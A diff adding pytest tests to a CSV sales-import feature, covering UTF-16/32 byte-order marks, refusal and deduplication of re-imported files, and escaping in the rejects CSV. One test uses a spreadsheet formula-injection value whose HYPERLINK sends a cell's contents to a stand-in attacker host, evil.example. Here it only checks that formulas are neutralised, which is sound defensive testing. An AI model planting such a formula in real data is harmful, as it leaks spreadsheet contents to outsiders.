@@ -4,6 +4,7 @@ from __future__ import annotations
 
 import csv
 import datetime as dt
+import io
 from decimal import Decimal
 
 import pytest
@@ -65,6 +66,14 @@ def test_semicolons_with_decimal_commas(tmp_path, kam, account):
 def test_a_byte_order_mark_is_not_part_of_the_first_column(tmp_path, kam, account):
     done(import_file(tmp_path, f"\ufeff{HEADER}\n00017,2024-03-01,5.00\n", by=kam))
     assert lines() == [("00017", dt.date(2024, 3, 1), Decimal("5.00"), None, None, None)]
+
+
+@pytest.mark.parametrize("encoding", ["utf-16", "utf-16-le", "utf-32"])
+def test_utf16_and_utf32_files_with_their_byte_order_mark(tmp_path, kam, account, encoding):
+    content = f"{HEADER},account_name\n00017,2024-03-01,5.00,Müller\n"
+    codec = "utf-32" if encoding == "utf-32" else "utf-16"  # always written with the mark
+    batch = done(import_file(tmp_path, content.encode(codec), by=kam, encoding=encoding))
+    assert batch.inserted == 1
 
 
 def test_a_stated_date_format(tmp_path, kam, account):
@@ -205,6 +214,22 @@ def test_skip_invalid_imports_the_good_rows_and_writes_the_bad_ones_to_a_csv(tmp
     assert_rollups_match_lines()
 
 
+def test_the_rejects_csv_neutralises_formulas_and_keeps_negative_amounts(tmp_path, kam, account):
+    name = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
+    content = io.StringIO()
+    writer = csv.writer(content)
+    writer.writerow(["account_external_id", "date", "amount", "account_name"])
+    writer.writerow(["00017", "2024-03-01", "5.00", "Nordic Steel"])
+    writer.writerow(["NEW-1", "2024-02-30", "-12.50", name])
+    batch = done(import_file(tmp_path, content.getvalue(), by=kam, skip_invalid=True))
+
+    with batch.rejects.open("r") as handle:
+        (rejected,) = list(csv.DictReader(handle))
+    assert rejected["account_name"] == "'" + name  # shows as typed, never runs
+    assert rejected["amount"] == "-12.50"  # still a number to a spreadsheet
+    assert rejected["date"] == "2024-02-30"
+
+
 def test_the_rejects_csv_keeps_the_values_of_rows_refused_by_whole_file_checks(tmp_path, kam, account):
     batch = done(
         import_file(
@@ -267,6 +292,37 @@ def test_a_file_without_line_ids_is_refused_the_second_time_unless_forced(tmp_pa
     assert forced.inserted == 2
     assert MonthlySales.objects.get().revenue == Decimal("22.00")
     assert_rollups_match_lines()
+
+
+def test_a_mixed_file_is_refused_the_second_time_for_its_rows_without_line_ids(tmp_path, kam, account):
+    # Once let through because some rows had line ids: the rows without were inserted again.
+    path = write_file(
+        tmp_path,
+        f"{HEADER},line_external_id\n"
+        "00017,2024-03-01,5.00,INV-1\n00017,2024-03-02,6.00,\n00017,2024-03-03,7.00,\n",
+    )
+    first = done(import_path(path, by=kam))
+    assert first.inserted == 3
+    before = ledger_snapshot()
+
+    again = import_path(path, by=kam)
+    assert again.status == ImportBatch.Status.REFUSED
+    assert again.message.startswith(f"This file was already imported (import #{first.pk} on ")
+    assert "2 row(s) have no line id to tell them apart" in again.message
+    assert "Give every row a line id" in again.message
+    assert ledger_snapshot() == before
+
+    forced = done(import_path(path, by=kam, force=True))
+    assert (forced.inserted, forced.duplicates) == (2, 1)  # what forcing it means, and no more
+    assert MonthlySales.objects.get().revenue == Decimal("31.00")
+    assert_rollups_match_lines()
+
+
+def test_a_file_whose_every_row_has_a_line_id_is_deduplicated_not_refused(tmp_path, kam, account):
+    path = write_file(tmp_path, f"{HEADER},line_external_id\n00017,2024-03-01,5.00,INV-1\n")
+    done(import_path(path, by=kam))
+    again = done(import_path(path, by=kam))
+    assert (again.inserted, again.duplicates) == (0, 1)
 
 
 def test_a_rolled_back_file_without_line_ids_can_be_imported_again(tmp_path, kam, account):
